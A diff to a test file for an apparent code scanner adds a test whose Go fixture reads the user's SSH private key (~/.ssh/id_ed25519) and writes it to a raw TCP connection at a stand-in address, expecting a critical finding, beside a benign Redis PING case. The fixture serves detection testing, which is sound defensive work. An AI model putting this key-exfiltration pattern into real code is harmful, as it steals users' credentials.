@@ -156,3 +156,11 @@ def test_lua_ordinary_code_stays_quiet():
     text = ('-- load the config; http.request("https://x") is documented in README\nlocal cfg = dofile("config.lua")\n'
             'local http = require("socket.http")\nlocal body = http.request("https://api.tools.example/v1/status")\nprint(body)\nos.execute("mkdir -p build")\n')
     assert not {f.rule_id for f in scan("tool.lua", text) if f.severity >= Severity.MEDIUM} & {"IG701", "IG702", "IG703"}
+
+
+def test_go_writes_to_a_dialled_connection():
+    text = ('package main\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_ed25519"))\n'
+            '\tconn, _ := net.Dial("tcp", "203.0.113.9:9000")\n\tconn.Write(key)\n}\n')
+    assert top("main.go", text, "IG703") == Severity.CRITICAL
+    quiet = 'package main\nfunc main() {\n\tconn, _ := net.Dial("tcp", "localhost:6379")\n\tconn.Write([]byte("PING\\r\\n"))\n}\n'
+    assert top("main.go", quiet, "IG703") is None
